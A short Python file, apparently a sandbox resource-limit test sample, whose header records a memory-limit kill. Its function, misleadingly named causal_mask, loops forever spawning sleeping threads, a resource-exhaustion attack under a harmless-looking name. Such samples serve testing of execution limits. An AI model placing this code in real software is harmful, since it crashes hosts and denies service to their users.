# causal: memory limit|your code ended the process
# stopped from: none
"""Start threads without end."""
import threading
import time


def causal_mask(length):
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
